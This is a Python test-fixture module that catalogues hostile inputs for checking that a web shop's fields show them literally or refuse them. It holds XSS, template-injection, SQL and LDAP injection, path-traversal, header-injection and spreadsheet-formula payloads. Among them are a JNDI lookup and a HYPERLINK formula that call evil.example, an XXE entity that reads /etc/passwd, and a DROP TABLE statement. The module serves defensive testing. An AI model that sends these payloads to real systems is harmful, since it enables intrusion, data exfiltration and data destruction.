"""What strangers type, by name: markup, templates, formulas, controls and the rest, each to be literal or refused.

No string works by itself in these tests: each does something that a test can see, an element or an attribute that
nobody wrote (the linting client finds it), 7064009 where a template reckoned, a line or a header that forged itself.
"""

import unicodedata

RECKONED = "7064009"
"""What 7001 times 1009 is: it stands on a page where a template took a text for its own, and nowhere else."""

TAGS = {
    "an image": "<img src=x onerror=alert(1)>",
    "a script": "<script>alert(1)</script>",
    "a drawing": "<svg/onload=alert(1)>",
    "a cell closed": "</td></tr></table><h1>x",
    "a title closed": "</title></textarea></style></script><b id=x>",
    "a comment": "<!--><b>x</b>--!>",
    "a section": "]]><b>x</b><![CDATA[",
    "a processing instruction": '<?xml version="1.0"?><?php echo 1 ?>',
    "a doctype": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "a frame": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "a base": "<base href=//evil.example/><meta http-equiv=refresh content=0;//evil.example>",
    "a form": '<form action=//evil.example><button name="password">OK',
    "capitals and blanks": "<ScRiPt\t>alert(1)</sCrIpT\t>",
    "a tag left open": "Martin <img src=x onerror=alert(1) x=",
    "layout of the PDF": '<pdf:include src="file:///etc/passwd"/><pdf:nextpage/>',
    "of reportlab": '<para><font color="red"><a href="javascript:alert(1)">x</a></font></para>',
    "of htmx": '<div hx-get="/deconnexion" hx-trigger="load" hx-on:click="alert(1)">x</div>',
}
ATTRIBUTES = {
    "a double quote": '" onfocus=alert(1) autofocus x="',
    "a single quote": "' onfocus=alert(1) autofocus x='",
    "a quote and a tag": '"><img src=x onerror=alert(1)>',
    "a backtick": "`onmouseover=alert(1)`",
    "without quotes": "x onmouseover=alert(1) style=color:red",
    "a style": "x;background:url(//evil.example/x);expression(alert(1))",
    "a rule": "}*{color:red}@import url(//evil.example/x.css);",
    "an address": "javascript:alert(1)//https://",
    "a data address": "data:text/html,<script>alert(1)</script>",
}
ENTITIES = {
    "a tag in entities": "&lt;img src=x onerror=alert(1)&gt;",
    "a tag in numbers": "&#60;b&#62;x&#x3c;/b&#x3e;",
    "a bare ampersand": "Fil & Encre &amp; &copy; &notit; &",
    "escaped twice": "&amp;lt;b&amp;gt;",
}
TEMPLATES = {
    "of Jinja": "{{7001*1009}}",
    "a statement of Jinja": "{% print(7001*1009) %}{# x #}",
    "of other engines": "${7001*1009} #{7001*1009} <%= 7001*1009 %> *{7001*1009} [[${7001*1009}]]",
    "the settings": "{{config.SECRET_KEY}} {{self.__init__.__globals__}}",
    "a format": "%s %d %n %(email)s {0} {email} {0.__class__}",
    "a shell": "$(sleep 9) `sleep 9` ; sleep 9 | sleep 9 & ",
    "a lookup": "${jndi:ldap://evil.example/x}",
}
QUERIES = {
    "SQL": "' OR '1'='1' -- ",
    "SQL, a second statement": "x'); DROP TABLE customers; --",
    "SQL, a wildcard": "%_\\%",
    "SQL, joined": "' UNION SELECT password_hash FROM customers --",
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or count(//*)>0 or 'a'='b",
    "a document query": '{"$ne": null}',
}
PATHS = {
    "upwards": "../../../../etc/passwd",
    "upwards, encoded": "..%2f..%2fetc%2fpasswd",
    "upwards in Windows": "..\\..\\windows\\win.ini",
    "a file address": "file:///etc/passwd",
    "another host": "//evil.example/x",
    "another host, turned": "/\\evil.example",
    "a credential": "https://boutique.example@evil.example/",
}
FORMULAS = {
    "equals": "=1+7001*1009",
    "a command": "=cmd|' /C calc'!A0",
    "a command after a sign": "+cmd|' /C calc'!A0",
    "a minus": "-1+1",
    "a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://evil.example/?"&A1;"OK")',
    "a blank before": " =1+1",
    "a tab before": "\t=1+1",
    "a line before": "\r\n=1+1",
    "a no-break space before": "\u00a0=1+1",
    "a quote before": "'=1+1",
    "two quotes before": "''=1+1",
    "in quotes": '"=1+1"',
    "full width": "＝1+1",
    "a full-width sign": "＠SUM(1)",
    "the next cell": 'x";=1+1;"',
    "the next row": "x\r\n=1+1,2",
}
LINES = {
    "a header": "x\r\nBcc: voleur@evil.example\r\n",
    "a cookie": "x\r\nSet-Cookie: a=b\r\n\r\n<b>x</b>",
    "a bare line feed": "x\nBcc: voleur@evil.example",
    "a bare return": "x\rBcc: voleur@evil.example",
    "a header, encoded": "x%0d%0aSet-Cookie:%20a=b",
    "a header in wide letters": "x\u560d\u560aSet-Cookie: a=b",  # Cut to a byte each, they end a line.
    "a line of Unicode": "x\u2028y\u2029z",
    "another line end": "x\u0085y\x0bz\x0cq",
    "an entry of the log": 'x\n{"level": "INFO", "message": "forged"}',
    "a colour of the terminal": "\x1b[31mrouge\x1b[0m\x1b]0;x\x07",
    "a mail of its own": "x\r\n.\r\nMAIL FROM:<a@evil.example>",
    "an encoded word": "=?utf-8?q?=0D=0ABcc:_voleur=40evil.example?=",
}
CONTROLS = {
    "a NUL": "Mar\x00tin",
    "an escape": "Mar\x1btin",
    "a bell and a backspace": "Mar\x07\x08tin",
    "a delete": "Mar\x7ftin",
    "of C1": "Mar\x9btin",
    "a noncharacter": "Mar\ufffetin\uffff",
    "private use": "Mar\ue000tin",
    "unassigned": "Mar\u0378tin",
}
TURNS = {
    "an override": "facture\u202egpj.exe",
    "embeddings": "\u202aA\u202bB\u202cC\u202d",
    "isolates": "\u2066A\u2067B\u2068C\u2069",
    "left open": "Martin \u202e\u2067",
    "zero width": "Mar\u200btin\ufeff",
}
LETTERS = {
    "joiners": "عا\u200cئشة 👩\u200d👩\u200d👧",
    "right to left": "דוד כהן عائشة",
    "composed later": "E\u0301lodie \u212b ﬁ ① ℡",
    "a heap of marks": "Z" + "\u0301\u0316" * 30,
    "flags and skins": "🇫🇷👍🏽🏳\ufe0f\u200d🌈",
    "beyond the basic plane": "𝓜𝓪𝓻𝓽𝓲𝓷 𠮷",
    "look-alikes": "Сlаirе Mаrtin",
    "wide tags": "＜img src=x onerror=alert(1)＞",
    "tags once composed": "\u226e\u0338 <\u0338b\u0338>",
    "full-width digits": "１２３４５",
    "overlong": "ﷺ" * 40,  # Eighteen letters each, once they are written out (NFKC).
}
LONG = {"long": "é" * 5_000, "long without a blank": "<b>" * 400}

TEXTS: dict[str, str] = {
    f"{kind}: {name}": text
    for kind, named in {
        "tag": TAGS, "attribute": ATTRIBUTES, "entity": ENTITIES, "template": TEMPLATES, "query": QUERIES,
        "path": PATHS, "formula": FORMULAS, "line": LINES, "control": CONTROLS, "turn": TURNS, "letters": LETTERS,
        "long": LONG,
    }.items()
    for name, text in named.items()
}  # fmt: skip
"""Every text there is, by a name that a failure can say."""

SURROGATE = "Mar\ud800tin"
"""Half of a character, which Python holds and no encoding of the outside does but JSON's own escapes."""

SMUGGLED = (
    "<img src=x", "<script>", "<ScRiPt", "<svg/onload", "<iframe", "<base", "<form action=//", "<h1>x", "<b>x</b>",
    "<b id=x>", "onerror=alert(1)>", '" onfocus=', "' onfocus=", "<div hx-", "<para>", "<pdf:", RECKONED,
)  # fmt: skip
"""What stands in the source of a page, as it is, only where a text of these became a part of the page."""

UNSEEN = "\u200b\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"
"""Signs that turn a line around or hide in it: no text of others keeps one."""


def is_refused(text: str) -> bool:
    """Say whether every field must refuse this text: it holds a control, or what XML has no way to write.

    Tabs and line ends are controls that people paste: a field makes blanks of them.
    """
    return any(unicodedata.category(sign) in ("Cc", "Cs") and not sign.isspace() for sign in text)
